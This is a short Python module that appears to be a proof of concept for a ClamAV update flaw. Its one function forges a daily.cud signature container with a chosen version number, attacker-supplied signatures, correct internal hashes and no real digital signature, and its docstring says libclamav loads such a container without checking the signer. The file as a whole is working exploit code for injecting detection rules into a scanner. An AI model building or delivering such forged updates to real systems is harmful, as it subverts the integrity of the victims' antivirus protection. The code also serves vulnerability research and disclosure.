# SPDX-License-Identifier: MIT
"""Signature databases in the containers that ClamAV distributes."""
import gzip
import hashlib
import io
import tarfile
import time

FILLER = "".join(f"Test.Filler{i}:0:*:{'%02x' % i * 12}\n" for i in range(1, 9))


def signed_by_nobody(version, *signatures):
    """daily.cud: signatures in a container that states its version, which libclamav loads without asking who signed it."""
    content = (FILLER + "".join(signatures)).encode()
    made = int(time.time())

    def head(digest):
        return f"ClamAV-VDB:22 Nov 2026 00-00 +0000:{version}:{content.count(b':0:')}:90:{digest}:X:postern:{made}"
    info = f"{head('X')}\ndaily.ndb:{len(content)}:{hashlib.sha256(content).hexdigest()}\n".encode()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, octets in (("COPYING", b"none\n"), ("daily.info", info), ("daily.ndb", content)):
            member = tarfile.TarInfo(name)
            member.size = len(octets)
            archive.addfile(member, io.BytesIO(octets))
    body = gzip.compress(packed.getvalue())
    return head(hashlib.md5(body).hexdigest()).encode().ljust(512) + body
